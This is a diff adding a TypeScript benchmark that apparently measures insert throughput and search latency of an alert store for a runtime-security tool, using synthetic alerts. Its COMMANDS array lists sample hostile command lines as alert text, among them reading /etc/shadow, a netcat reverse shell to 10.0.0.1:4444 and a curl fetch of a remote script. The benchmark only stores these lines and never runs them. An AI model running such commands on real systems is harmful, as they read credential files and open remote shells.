@@ -1,0 +1,99 @@
+/**
+ * Web UI store benchmark (issue: web UI). Measures in one process:
+ *   - inserts/s into the alert store (batches of 500, as the sidekick's webui output hands them over),
+ *     next to a bare better-sqlite3 insert of the same JSON into an unindexed table (the baseline);
+ *   - `events/search` latency (p50/p95) with the store filled to `--alerts` alerts (default 1,000,000)
+ *     for a rule+priority filter and for a free-text query.
+ * Prints the figures and writes bench/results/store.json. Not a test: nothing passes or fails on time.
+ *
+ *   npx tsx bench/store.ts [--alerts 1000000]
+ */
+import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import Database from 'better-sqlite3';
+import { randomUUID } from 'node:crypto';
+import { PRIORITIES, type Alert } from '../contract/index.js';
+import { AlertStore } from '../sidekick/alert-store/index.js';
+
+const flag = process.argv.indexOf('--alerts');
+const TOTAL = flag > 0 ? Number(process.argv[flag + 1]) : 1_000_000;
+const BATCH = 500;
+const RULES = Array.from({ length: 40 }, (_, i) => `Rule number ${i}`);
+const HOSTS = Array.from({ length: 50 }, (_, i) => `node-${i}`);
+const COMMANDS = ['cat /etc/shadow', 'bash -i', 'curl http://example.com/x.sh', 'nc -e /bin/sh 10.0.0.1 4444', 'apt-get install nmap', 'python3 app.py'];
+
+function alert(i: number): Alert {
+  const rule = RULES[i % RULES.length] as string;
+  const command = COMMANDS[i % COMMANDS.length] as string;
+  return {
+    uuid: randomUUID(),
+    time: new Date(Date.now() - (TOTAL - i) * 100).toISOString().replace('Z', '000000Z'),
+    rule,
+    priority: PRIORITIES[i % PRIORITIES.length] as Alert['priority'],
+    source: i % 10 === 0 ? 'k8s_audit' : 'syscall',
+    hostname: HOSTS[i % HOSTS.length] as string,
+    output: `10:00:00.000000000: Warning ${rule} (command=${command} user=root container=host id=${i})`,
+    output_fields: { 'proc.cmdline': command, 'user.name': 'root', 'container.id': 'host', 'evt.num': i },
+    tags: ['saker', i % 2 ? 'network' : 'filesystem'],
+  };
+}
+
+function percentile(sorted: number[], p: number): number {
+  return sorted[Math.min(sorted.length - 1, Math.floor((p / 100) * sorted.length))] ?? 0;
+}
+
+const dir = mkdtempSync(join(tmpdir(), 'saker-bench-store-'));
+try {
+  // Baseline: the same JSON rows into one unindexed table, in the same batch transactions.
+  const SAMPLE = Math.min(TOTAL, 100_000);
+  const bare = new Database(join(dir, 'bare.db'));
+  bare.pragma('journal_mode = WAL');
+  bare.pragma('synchronous = NORMAL');
+  bare.exec('CREATE TABLE alerts (id INTEGER PRIMARY KEY, body TEXT NOT NULL)');
+  const insert = bare.prepare('INSERT INTO alerts (body) VALUES (?)');
+  const insertMany = bare.transaction((rows: Alert[]) => {
+    for (const row of rows) insert.run(JSON.stringify(row));
+  });
+  let start = performance.now();
+  for (let i = 0; i < SAMPLE; i += BATCH) insertMany(Array.from({ length: BATCH }, (_, j) => alert(i + j)));
+  const bareRate = SAMPLE / ((performance.now() - start) / 1000);
+  bare.close();
+
+  const store = AlertStore.open({ directory: join(dir, 'store'), retention: { maxAgeSeconds: 0, maxRows: 0, maxBytes: 0 } });
+  start = performance.now();
+  for (let i = 0; i < SAMPLE; i += BATCH) store.insert(Array.from({ length: BATCH }, (_, j) => alert(i + j)));
+  const storeRate = SAMPLE / ((performance.now() - start) / 1000);
+  for (let i = SAMPLE; i < TOTAL; i += BATCH) store.insert(Array.from({ length: Math.min(BATCH, TOTAL - i) }, (_, j) => alert(i + j)));
+
+  const time = (query: () => unknown, runs = 40): { p50Ms: number; p95Ms: number } => {
+    const samples: number[] = [];
+    for (let i = 0; i < runs; i++) {
+      const t = performance.now();
+      query();
+      samples.push(performance.now() - t);
+    }
+    samples.sort((a, b) => a - b);
+    return { p50Ms: Number(percentile(samples, 50).toFixed(2)), p95Ms: Number(percentile(samples, 95).toFixed(2)) };
+  };
+  let n = 0;
+  const rulePriority = time(() => store.search({ rules: [RULES[n++ % RULES.length] as string], priorities: ['Critical', 'Error'] }, { limit: 100, offset: 0 }));
+  const freeText = time(() => store.search({ text: ['shadow', 'nmap', 'example', '4444'][n++ % 4] as string }, { limit: 100, offset: 0 }));
+  store.close();
+
+  const results = {
+    date: new Date().toISOString(),
+    node: process.version,
+    inserts: { alerts: SAMPLE, batch: BATCH, storePerSecond: Math.round(storeRate), bareSqlitePerSecond: Math.round(bareRate), targetPerSecond: 20_000 },
+    search: { storedAlerts: TOTAL, rulePriority, freeText, targetP95Ms: 100 },
+  };
+  console.log(
+    `inserts: ${results.inserts.storePerSecond.toLocaleString()}/s into the store vs ${results.inserts.bareSqlitePerSecond.toLocaleString()}/s bare SQLite ` +
+      `(ratio ${(storeRate / bareRate).toFixed(3)}; target ≥ 20,000/s)`,
+  );
+  console.log(`search with ${TOTAL.toLocaleString()} alerts: rule+priority p95 ${rulePriority.p95Ms} ms, free text p95 ${freeText.p95Ms} ms (target ≤ 100 ms)`);
+  mkdirSync(new URL('./results/', import.meta.url), { recursive: true });
+  writeFileSync(new URL('./results/store.json', import.meta.url), `${JSON.stringify(results, null, 2)}\n`);
+} finally {
+  rmSync(dir, { recursive: true, force: true });
+}
